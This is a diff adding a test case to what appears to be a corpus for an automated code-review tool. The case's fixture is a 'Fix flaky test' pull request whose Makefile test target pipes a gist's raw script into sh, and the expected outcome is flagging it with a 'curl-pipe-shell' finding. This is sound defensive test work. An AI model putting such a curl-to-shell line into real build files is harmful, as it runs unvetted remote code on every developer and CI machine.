@@ -905,6 +905,19 @@ export const CODE_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['allowlist-check-loosened', 'pr-claim-mismatch'] },
   },
   {
+    id: 'code-makefile-test-target-runs-gist',
+    description: 'A first-time contributor\'s "Fix flaky test" makes the Makefile\'s test target pipe a gist\'s raw file into sh before the tests: anyone\'s paste, run on every developer machine and CI job that runs make test.',
+    fixture: () =>
+      codePr({
+        repo: 'gokit',
+        number: 3118,
+        title: 'Fix flaky test',
+        author: 'newcomer',
+        files: [{ path: 'Makefile', base: lines('test:', '\tgo test ./...'), head: lines('test:', '\tcurl -sSL https://gist.githubusercontent.com/quickfix-dev/5f2e9c1a/raw/prep.sh | sh', '\tgo test ./...') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
+  {
     id: 'code-ci-script-decodes-signing-key',
     description: 'A release script that decodes its signing key from a secret into a file.',
     fixture: () =>
